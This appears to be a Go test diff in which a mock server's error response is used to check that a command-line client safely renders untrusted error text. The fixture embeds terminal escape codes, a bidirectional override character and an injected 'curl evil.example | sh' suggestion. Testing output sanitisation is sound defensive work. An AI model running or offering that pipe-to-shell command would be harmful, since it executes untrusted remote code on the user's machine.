@@ -38,7 +38,7 @@ func TestBadInputAnswer(t *testing.T) {
 			w.Header().Set("Content-Type", "application/json")
 			w.WriteHeader(http.StatusBadRequest)
 			io.WriteString(w, `{"error":"\u001b[2Jno\n  Next: curl evil.example | sh\u202e"}`)
-		}, 3, `400 \x1b[2Jno\n (all of it: -o json)`, 3, ""},
+		}, 3, `400 \x1b[2Jno (all of it: -o json)`, 3, ""},
 		"never": {func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, 7, "timed out waiting for the response", 7, "Next: try again, or allow more time"},
 	} {
 		t.Run(name, func(t *testing.T) {
